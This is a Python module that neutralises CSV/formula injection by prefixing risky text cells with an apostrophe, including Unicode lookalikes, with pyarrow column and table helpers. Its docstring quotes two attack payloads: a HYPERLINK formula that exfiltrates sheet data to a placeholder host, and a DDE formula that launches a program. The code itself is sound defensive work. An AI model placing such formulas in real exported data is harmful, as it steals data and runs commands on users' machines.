"""Text cells made inert for a spreadsheet (CWE-1236, OWASP "CSV Injection").

A payer chooses his own name in a payment message, a customer his name in a bank's file, a
list source or a partner the names it sends. jalur writes such values into CSV files that
analysts open in Excel or LibreOffice, which read a cell starting with `=`, `+`, `-`, `@`, a
tab or a carriage return as a formula (`=HYPERLINK("http://x/?"&A1,"open")` sends the sheet
away, `=cmd|' /C calc'!A0` runs a program). `guard_cell` puts a `'` before such a value, as
OWASP recommends: the spreadsheet then shows it as text.

A plain decimal number (`-12.5`, `+62`, `1e-3`) is left as it is: a spreadsheet reads it as
that number and evaluates nothing, so a number stays a number. Only text columns are guarded
(a float column is never a formula).

A spreadsheet reads more than OWASP's ASCII characters: Excel takes a full-width `＝` (what a
Japanese or Chinese input method types) as `=`, and a value that NFKC-normalises to a formula
character (`＋`, `－`, `＠`, the small, superscript and subscript forms) is marked as well, as
is the minus sign `−` (U+2212) that LibreOffice reads as `-`.

The guard can be undone exactly: a value that already starts with `'` before a formula
character (`'=x`) gets a second one, so `unguard_cell(guard_cell(x)) == x` for every text and
the readers of jalur's own files (`screen clear --file`, `model train --labels`,
`accounts flag`) take back what was written.
"""

from __future__ import annotations

import re
from functools import cache
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # the cell form is imported by every command's tables: pyarrow only when used
    import pyarrow as pa

#: Characters that open a formula in a spreadsheet cell (OWASP's list).
FORMULA_STARTS = "=+-@\t\r"
#: Characters a spreadsheet reads as one of `FORMULA_STARTS`: every one whose NFKC form starts
#: with one (full-width, small, superscript and subscript forms; `⩵` is `==`; the test checks
#: the list against Unicode), and the minus sign.
LOOKALIKES = (
    "\uff1d\uff0b\uff0d\uff20"  # full-width ＝ ＋ － ＠
    "\ufe66\ufe62\ufe63\ufe6b"  # small ﹦ ﹢ ﹣ ﹫
    "\u207c\u207a\u208c\u208a"  # superscript ⁼ ⁺, subscript ₌ ₊
    "\u2a75\u2a76\ufb29"  # ⩵ ⩶, Hebrew alternative plus ﬩
    "\u2212"  # minus sign −
)
#: The guard's mark: the spreadsheet's own "this is text" prefix.
MARK = "'"
#: A value the guard marks: a formula character after any number of marks (the marks are
#: counted in so that a value already starting `'=` is marked again and the guard undone).
_FORMULA = "^'*[=+\\-@\t\r" + LOOKALIKES + "]"
#: A plain decimal number: read as a number, never a formula. The same text for Python's `re`
#: (with fullmatch) and for RE2 in pyarrow (anchored).
_NUMBER = r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_FORMULA_RE = re.compile(_FORMULA)
_NUMBER_RE = re.compile(_NUMBER)


@cache
def _first_bytes() -> pa.Array:
    """The first bytes (UTF-8) a marked value can start with."""
    import pyarrow as pa

    firsts = {c.encode()[:1] for c in FORMULA_STARTS + LOOKALIKES + MARK}
    return pa.array(sorted(firsts), pa.binary())


def needs_guard(value: str) -> bool:
    """Whether a spreadsheet would read `value` as a formula (or it is a guarded one)."""
    return _FORMULA_RE.match(value) is not None and _NUMBER_RE.fullmatch(value) is None


def guard_cell(value: str) -> str:
    """`value` as a spreadsheet shows it as text: `'` before a formula, anything else as is."""
    return MARK + value if needs_guard(value) else value


def unguard_cell(value: str) -> str:
    """The value `guard_cell` was given: its own `'` taken off, anything else as is (a `'`
    before a name, `'Ali`, is the name's own)."""
    if value.startswith(MARK) and needs_guard(value[1:]):
        return value[1:]
    return value


def guard_column(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """`guard_cell` over a string column, vectorised (hits files have millions of rows)."""
    import pyarrow as pa
    import pyarrow.compute as pc  # here: `jalur screen name`'s cold start does not pay for it

    first = pc.binary_slice(column.cast(pa.binary()), 0, 1)  # a fifth of the regex's time
    if not pc.any(pc.is_in(first, value_set=_first_bytes())).as_py():
        return column  # most columns: no cell starts as a formula or a mark
    formula = pc.fill_null(pc.match_substring_regex(column, _FORMULA), False)
    number = pc.fill_null(pc.match_substring_regex(column, f"^{_NUMBER}$"), False)
    marked = pc.and_(formula, pc.invert(number))
    prefixed = pc.binary_join_element_wise(MARK, column, "")
    return pc.if_else(marked, prefixed, column)


def guard_table(table: pa.Table) -> pa.Table:
    """`table` with every string column guarded; numbers, dates and the rest untouched."""
    import pyarrow as pa

    for index, field in enumerate(table.schema):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            table = table.set_column(index, field, guard_column(table.column(index)))
    return table
